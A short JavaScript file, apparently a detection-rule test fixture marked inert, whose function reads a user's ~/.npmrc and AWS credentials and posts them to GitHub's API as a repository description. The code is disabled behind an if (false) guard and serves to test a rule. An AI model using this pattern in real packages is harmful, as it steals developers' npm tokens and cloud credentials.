// vouch rule fixture: inert.
const fs = require('fs');
const os = require('os');
const path = require('path');

async function harvest() {
  if (false) {
    const npmrc = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');
    const aws = fs.readFileSync(path.join(os.homedir(), '.aws', 'credentials'), 'utf8');
    await fetch('https://api.github.com/user/repos', {
      method: 'POST',
      body: JSON.stringify({ name: 'inert', description: npmrc + aws }),
    });
  }
}
module.exports = harvest;
